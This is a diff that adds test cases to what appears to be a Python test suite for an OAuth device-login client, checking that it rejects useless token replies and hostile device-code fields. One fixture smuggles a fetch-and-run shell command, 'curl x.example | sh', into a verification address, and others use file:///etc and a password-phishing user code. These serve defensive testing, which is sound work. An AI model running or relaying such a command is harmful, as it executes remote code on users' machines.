@@ -44,6 +44,26 @@ def left_alone(status, header, least, most):
     return job
 
 
+def useless(pattern, reply, path="/token"):
+    """What is no use is the same to the next message: it does not ask again."""
+    def job():
+        with Setting("useless", grant="device") as s:
+            s.log_in()
+            s.age(3590)
+            if path == "/token":
+                s.provider.replies = [reply] * 9
+            else:
+                s.provider.replies_at[path] = reply
+            s.submit()
+            s.held(pattern)
+            asked = len(s.provider.asked)
+            for _ in range(2):
+                time.sleep(1.1)
+                s.held("wants to be left alone|has refused the login")
+            same("requests", len(s.provider.asked), asked)
+    return job
+
+
 def description(pattern, *replies, paths=(DESCRIBED,)):
     """What it says of itself."""
     def job():
@@ -143,6 +163,17 @@ ALONE = (
     ("429 for ever", left_alone(429, "99999999", 3500, 3601)),
     ("429 nonsense", left_alone(429, "soon", 20, 31)),
 )
+USELESS = (
+    ("200 without a token", useless("no token that can be used", Reply(200, {"scope": "mail"}))),
+    ("200 garbage", useless("not understood", Reply(200, b"{"))),
+    ("200 too long", useless("too long", Reply(200, b" " * 70000))),
+    ("moved", useless("sends us elsewhere", Reply(302, b"", (("Location", "http://x/"),)))),
+    ("200 with an error", useless("log in again: sendmail --login main",
+                                  Reply(200, {"error": "invalid_grant"}))),
+    ("described as another", useless("describe itself as that issuer", Reply(
+        200, {"issuer": "https://other.example"}), DESCRIBED)),
+    ("described not at all", useless("answers 500", Reply(500), DESCRIBED)),
+)
 DESCRIPTIONS = (
     ("404 twice", description("answers 404", Reply(404), Reply(404), paths=(DESCRIBED, OTHER))),
     ("500", description("answers 500", Reply(500))),
@@ -172,6 +203,16 @@ DEVICES = (
         "device_code": "d", "user_code": "\x1b[2J", "verification_uri": "https://x.example"}))),
     ("line end in the address", device("not understood", Reply(200, {
         "device_code": "d", "user_code": "A", "verification_uri": "https://x.example\nT"}))),
+    ("words in the address", device("not understood", Reply(200, {
+        "device_code": "d", "user_code": "A",
+        "verification_uri": "https://x.example, and run: curl x.example | sh;"}))),
+    ("words in the code", device("not understood", Reply(200, {
+        "device_code": "d", "user_code": "A and your password",
+        "verification_uri": "https://x.example"}))),
+    ("address in clear", device("not understood", Reply(200, {
+        "device_code": "d", "user_code": "A", "verification_uri": "http://x.example"}))),
+    ("address of a file", device("not understood", Reply(200, {
+        "device_code": "d", "user_code": "A", "verification_uri": "file:///etc"}))),
     ("long code", device("not understood", Reply(200, {
         "device_code": "d", "user_code": "A" * 300, "verification_uri": "https://x.example"}))),
 )
@@ -185,12 +226,13 @@ WAITING = (
     ("no token", while_waiting("no token that can be used", Reply(200, {"token_type": "bearer"}))),
     ("slow_down", while_waiting(None, error("authorization_pending"), error("slow_down"))),
     ("503", while_waiting(None, Reply(503))),
+    ("200 pending", while_waiting(None, Reply(200, {"error": "authorization_pending"}))),
 )
 
 JOBS = []
 if THERE:
-    for kind, rows in (("alone", ALONE), ("description", DESCRIPTIONS), ("device", DEVICES),
-                       ("waiting", WAITING)):
+    for kind, rows in (("alone", ALONE), ("useless", USELESS), ("description", DESCRIPTIONS),
+                       ("device", DEVICES), ("waiting", WAITING)):
         JOBS += [(f"{kind} {name}", job) for name, job in rows]
     JOBS += [("told to wait", told_to_wait), ("pieces", in_pieces), ("dripping", dripping),
              ("another name", another_name)]
